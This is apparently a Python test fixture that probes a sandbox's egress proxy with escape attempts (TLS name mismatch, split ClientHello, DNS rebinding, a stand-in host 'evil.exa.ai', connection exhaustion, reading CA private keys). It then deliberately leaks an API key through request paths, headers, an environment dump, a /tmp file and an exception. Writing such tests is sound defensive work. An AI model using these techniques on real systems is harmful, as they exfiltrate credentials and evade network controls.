"""Tries to leave the sandbox by the proxy, and to give its secret away by every output."""

# ruff: noqa
# mypy: ignore-errors

import json
import os
import socket
import ssl
import threading
import time
import urllib.request
from pathlib import Path

done = threading.Lock()
SECRET = os.environ.get("EXA_KEY", "")
PROXY = ("127.0.0.1", 8002)
TRUSTED = ssl.create_default_context()


def connect(target, *, head=None):
    """The connection that a CONNECT request opened; raises where it was refused."""
    opened = socket.create_connection(PROXY, 20)
    opened.sendall(head or f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    answer = opened.recv(4096)
    if not answer.startswith(b"HTTP/1.1 200 "):
        raise PermissionError(answer.split(b"\r\n")[0].decode() or "closed")
    return opened


def tunnel(host, name):
    """A TLS connection to an approved host under another server name."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with context.wrap_socket(connect(f"{host}:443"), server_hostname=name) as wrapped:
        return wrapped.version()


def get(host, **headers):
    request = urllib.request.Request(f"https://{host}/{os.environ['EXA_KEY']}", headers=headers)
    with urllib.request.urlopen(request, timeout=20) as response:
        return response.read().decode()


def split_hello():
    """A ClientHello for another host, byte by byte."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    client = context.wrap_bio(incoming, outgoing, server_hostname="evil.exa.ai")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    with connect("open.example.org:443") as opened:
        for byte in outgoing.read():
            opened.sendall(bytes([byte]))
        answer = opened.recv(5)
    if not answer:
        raise PermissionError("closed")
    return answer


def many():
    """More connections at once than there may be."""
    kept = []
    try:
        for _ in range(80):
            kept.append(connect("open.example.org:443"))
    finally:
        for opened in kept:
            opened.close()
        wait_for_free_connections()
    return len(kept)


def wait_for_free_connections():
    """The proxy notices closed connections one by one: the next attempts must not count among them."""
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        try:
            return connect("open.example.org:443").close()
        except PermissionError:
            time.sleep(0.2)


attempts = {
    "wrong port": lambda: connect("open.example.org:22"),
    "address": lambda: connect("93.184.216.34:443"),
    "own address": lambda: connect("127.0.0.1:443"),
    "localhost": lambda: connect("localhost:443"),
    "private name": lambda: connect("private.example.org:443"),
    "rebinding name": lambda: [connect("rebinding.example.org:443") for _ in range(2)],
    "undeclared host": lambda: connect("evil.exa.ai:443"),
    "second name": lambda: tunnel("open.example.org", "evil.exa.ai"),
    "no name": lambda: tunnel("open.example.org", None),
    "split hello": split_hello,
    "plain": lambda: connect("", head=b"GET http://open.example.org/ HTTP/1.1\r\n\r\n"),
    "connections": many,
    "key of the authority": lambda: [
        path for path in Path("/etc/ssl").rglob("*") if "PRIVATE KEY" in path.read_text()
    ][0],
}


def once():
    """Make every attempt, then put the secret wherever an environment can write."""
    if not done.acquire(blocking=False):
        return
    for name, attempt in attempts.items():
        try:
            print(f"TRIED {name} = REACHED: {attempt()!r}")
        except Exception as error:
            print(f"TRIED {name} = refused: {type(error).__name__}: {error}")
    bearer = {"Authorization": f"Bearer {SECRET}"}
    for host in ("api.exa.ai", "open.example.org"):
        try:
            print(f"TRIED answer of {host} = {get(host, **bearer)!r}")
        except Exception as error:
            print(f"TRIED answer of {host} = failed: {type(error).__name__}: {error}")
    print(f"TRIED variables = {json.dumps(dict(os.environ))}")
    Path("/tmp", SECRET).write_text(SECRET)
    print(f"TRIED files = {os.listdir('/tmp')}")
    raise RuntimeError(f"my secret is {SECRET}")
